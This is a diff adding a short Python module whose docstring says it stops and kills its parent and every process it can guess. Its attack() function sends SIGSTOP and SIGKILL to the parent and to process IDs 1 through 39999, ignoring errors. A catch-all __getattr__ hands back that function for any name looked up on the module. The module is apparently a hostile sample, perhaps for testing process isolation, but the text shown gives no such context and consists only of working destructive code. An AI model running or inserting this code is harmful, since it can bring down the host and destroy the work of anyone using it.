@@ -1,0 +1,17 @@
+"""Stops and kills its parent, and every process whose number it can guess."""
+
+import contextlib
+import os
+import signal
+
+
+def attack(*arguments, **keywords):
+    for process in (os.getppid(), *range(1, 40000)):
+        if process not in (0, os.getpid()):
+            for number in (signal.SIGSTOP, signal.SIGKILL):
+                with contextlib.suppress(OSError):
+                    os.kill(process, number)
+
+
+def __getattr__(name):
+    return attack
